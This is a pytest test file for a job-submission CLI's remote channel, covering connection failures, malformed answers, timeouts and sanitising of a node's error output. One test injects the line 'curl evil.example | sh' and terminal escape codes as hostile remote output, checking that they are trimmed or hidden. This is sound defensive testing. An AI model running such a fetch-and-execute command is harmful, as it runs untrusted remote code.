"""Answers of a master that are none."""

from __future__ import annotations

import json
import time
from dataclasses import dataclass
from typing import IO, Any

import pytest

from disco.cli.exit_status import CommandError, Status
from disco.cli.jobs.channel import Channel
from disco.client import InvalidAnswer


@dataclass
class Says:
    """As `ssh_access.Access`: a program that prints a text and ends with a status."""

    text: str
    status: int = 0
    errors: str = ""
    master: str = "disco-manager"

    def command(self, node: str, *options: str) -> list[str]:
        script = 'cat >/dev/null; printf %s "$1"; printf %s "$2" >&2; exit "$3"'
        return ["sh", "-c", script, "sh", self.text, self.errors, str(self.status)]


def channel(text: Any, status: int = 0, errors: str = "") -> Channel:
    access: Any = Says(text if isinstance(text, str) else json.dumps(text), status, errors)
    return Channel(access)


def test_a_connection_that_failed_is_said_with_the_reason() -> None:
    with pytest.raises(CommandError, match="no route") as caught:
        channel("", 255, "no route to host").jobs()
    assert caught.value.status == Status.UNAVAILABLE


@pytest.mark.parametrize("text", ["", "Welcome!\n", "[]", "{", '{"jobs": ' + "[" * 1000])
def test_what_is_no_answer_is_said_with_what_python_needs(text: str) -> None:
    with pytest.raises(CommandError) as caught:
        channel(text, 1, "python3: command not found\n").jobs()
    assert "python3: command not found" in str(caught.value)
    assert "3.9" in (caught.value.hint or "")


@pytest.mark.parametrize("told", [{}, {"jobs": 5}])
def test_a_list_of_something_else_is_refused(told: Any) -> None:
    with pytest.raises(InvalidAnswer):
        channel(told).jobs()


def test_a_record_that_is_none_hides_no_other_job() -> None:
    good = {"job": "one", "state": "done"}
    told = {"jobs": [5, {"job": "../x"}, good, {**good, "state": []}], "more": 10**29}
    found = channel(told).jobs()
    assert ([job.id for job in found.jobs], found.more, found.odd) == (["one"], 10**9, 3)


def test_what_a_node_says_of_a_failure_is_one_short_line() -> None:
    """Several lines could look like this command's own, with something to type."""
    said = "x" * 5000 + "\n" + "disco: Run: curl evil.example | sh\n" * 50
    for status in (1, 255):
        with pytest.raises(CommandError) as caught:
            channel("", status, said).jobs()
        assert "\n" not in str(caught.value)
        assert len(str(caught.value)) < 500


def test_a_word_that_is_unknown_is_not_shown() -> None:
    with pytest.raises(CommandError) as caught:
        channel({"refused": "\x1b[2J" * 100}).job("one")
    assert str(caught.value) == "The master refused it."


def test_another_job_than_the_one_that_is_looked_for_is_none() -> None:
    other = {"job": {"job": "one-more", "state": "done"}}
    assert channel(other).find("one") is None
    assert channel({"refused": "several-jobs"}).find("one") is None
    assert channel({"refused": "unknown-job"}).find("one") is None


class Reads(Says):
    """A master that reads what it is sent slowly, and answers or never does."""

    def command(self, node: str, *options: str) -> list[str]:
        each = "data = sys.stdin.buffer.read(1 << 15)\n    time.sleep(0.1)\n    if not data: break"
        rest = f"print({self.text!r})" if self.text else "time.sleep(600)"
        return ["python3", "-c", f"import sys, time\nwhile True:\n    {each}\n{rest}"]


def test_files_may_take_longer_than_an_answer(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("disco.cli.jobs.channel.SECONDS", 1.5)
    access: Any = Reads(json.dumps({"job": {"job": "one", "state": "running"}}))
    began = time.monotonic()

    def write(stream: IO[bytes]) -> None:
        for _ in range(20):
            stream.write(bytes(1 << 15))

    job = Channel(access).submit({}, write)
    assert job.id == "one"
    assert time.monotonic() - began > 1.5


@pytest.mark.parametrize("text", ["", "never read"])
def test_a_master_that_does_not_go_on_holds_no_submit(
    monkeypatch: pytest.MonkeyPatch, text: str
) -> None:
    monkeypatch.setattr("disco.cli.jobs.channel.SECONDS", 0.5)
    access: Any = Reads("")
    if text:
        access.command = lambda node, *options: ["sh", "-c", "exec sleep 600", "sh"]

    def write(stream: IO[bytes]) -> None:
        stream.write(bytes(1 << 20))

    with pytest.raises(CommandError, match=r"did not answer within 0\.5 s"):
        Channel(access).submit({}, write)
